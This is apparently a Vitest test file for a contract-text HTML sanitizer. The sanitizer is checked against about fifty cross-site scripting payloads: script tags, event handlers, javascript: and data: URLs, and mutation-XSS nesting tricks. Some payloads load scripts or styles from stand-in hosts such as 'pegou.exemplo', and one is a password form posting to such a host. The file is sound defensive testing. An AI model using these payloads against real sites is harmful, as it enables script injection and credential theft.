import { describe, expect, test } from 'vitest';
import { CONTRACT_TEXTS } from '#app/features/contracts/seed/contract-texts.ts';
import { sanitizeContract } from './sanitize-contract.server.ts';

/** Every payload contains the word `pegou` at the place that would run or load something. */
const HOSTILE = [
  '<script>pegou()</script>',
  '<SCRIPT SRC=//mal.exemplo/pegou.js></SCRIPT>',
  '<scr<script>ipt>pegou()</scr</script>ipt>',
  '<script\x20type="text/javascript">pegou()</script\n>',
  '<script/x>pegou()</script>',
  '<<script>pegou();//<</script>',
  '<script>pegou()',
  '<img src=x onerror=pegou()>',
  '<img src="x" onerror="pegou()"//',
  '<img/src/onerror=pegou()>',
  '<image src=x onerror=pegou()>',
  '<svg onload=pegou()>',
  '<svg><script>pegou()</script></svg>',
  '<svg><a xlink:href="javascript:pegou()"><text>x</text></a></svg>',
  '<svg><animate onbegin=pegou() attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pegou()></style></table></mtext></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=pegou()>">',
  '<noscript><p title="</noscript><img src=x onerror=pegou()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pegou()>',
  '<p onclick="pegou()">x</p>',
  '<p ONMOUSEOVER=pegou()>x</p>',
  '<p style="background:url(javascript:pegou())">x</p>',
  '<p style="position:fixed;inset:0" class="pegou">x</p>',
  '<a href="javascript:pegou()">x</a>',
  '<a href="jav&#x09;ascript:pegou()">x</a>',
  '<a href="data:text/html;base64,pegou">x</a>',
  '<iframe src="javascript:pegou()"></iframe>',
  '<iframe srcdoc="<script>pegou()</script>"></iframe>',
  '<object data="pegou.swf"></object><embed src="pegou.swf">',
  '<base href="//pegou.exemplo/">',
  '<meta http-equiv="refresh" content="0;url=//pegou.exemplo">',
  '<link rel="stylesheet" href="//pegou.exemplo/a.css">',
  '<style>@import "//pegou.exemplo/a.css";</style>',
  '<form action="//pegou.exemplo"><input name="senha"><button>x</button></form>',
  '<details open ontoggle=pegou()>x</details>',
  '<video><source onerror="pegou()"></video>',
  '<marquee onstart=pegou()>x</marquee>',
  '<input autofocus onfocus=pegou()>',
  '<textarea><img src=x onerror=pegou()></textarea>',
  '<template><img src=x onerror=pegou()></template>',
  '<title><img src=x onerror=pegou()></title>',
  '<xmp><img src=x onerror=pegou()></xmp>',
  '<!--<img src="--><img src=x onerror=pegou()>-->',
  '<![CDATA[<img src=x onerror=pegou()>]]>',
  '<?xml version="1.0"?><?php pegou() ?>',
  '<td colspan="2 onclick=pegou()" rowspan="9999" background="pegou.png">x</td>',
  '<ol start="1;pegou" reversed onclick=pegou()><li value=pegou>x</li></ol>',
  '<table background="//pegou.exemplo/x.png"><tr><td>x</table>',
  '<p title="--><script>pegou()</script>">x',
  '<custom-element onconnected="pegou()">x</custom-element>',
  '<p id="__proto__" name="pegou">x</p>',
  '\u0000<scr\u0000ipt>pegou()</scr\u0000ipt>',
];

/** Tags of a cleaned text: a letter or `/` after `<`. */
const TAG = /<\/?([a-z][a-z0-9]*)([^>]*)>/g;
const ALLOWED = /^(h[1-4]|p|br|blockquote|ul|ol|li|strong|em|u|table|thead|tbody|tr|th|td)$/;

describe('removes elements that run code or load files', () => {
  test.each(HOSTILE)('%s', (payload) => {
    const clean = sanitizeContract(`<p>antes</p>${payload}`);
    expect(clean).toContain('<p>antes</p>');
    // Read as a browser does, every tag is an allowed one with nothing in it but a number.
    for (const [, name = '', rest = ''] of clean.matchAll(TAG)) {
      expect(name).toMatch(ALLOWED);
      expect(rest).toMatch(/^( (start|colspan|rowspan)="\d+"| \/)*$/);
    }
    expect(clean.replace(TAG, '')).not.toMatch(/[<>]/);
    expect(sanitizeContract(clean)).toBe(clean);
  });

  test('there are enough of them', () => expect(HOSTILE.length).toBeGreaterThanOrEqual(40));
});

describe('keeps the content that a contract needs', () => {
  test('the texts of the seed, letter by letter', () => {
    for (const { content } of CONTRACT_TEXTS) expect(sanitizeContract(content)).toBe(content);
  });

  test('structure, tables and the number that a list begins with', () => {
    const text =
      '<h1>a</h1><h4>b</h4><blockquote><p>c <u>d</u> <em>e</em><br />f</p></blockquote>' +
      '<ol start="3"><li>g<ul><li>h</li></ul></li></ol>' +
      '<table><thead><tr><th colspan="2">i</th></tr></thead><tbody><tr><td>j</td><td>k</td></tr></tbody></table>';
    expect(sanitizeContract(text)).toBe(text);
  });

  test('renames tags of editors, and keeps the text of removed tags', () => {
    expect(sanitizeContract('<div><b>a</b> <i>b</i> <a href="https://x.exemplo">c</a></div>')).toBe(
      '<strong>a</strong> <em>b</em> c',
    );
    expect(sanitizeContract('D&#39;Ávila &amp; 1 &lt; 2')).toBe("D'Ávila &amp; 1 &lt; 2");
  });
});
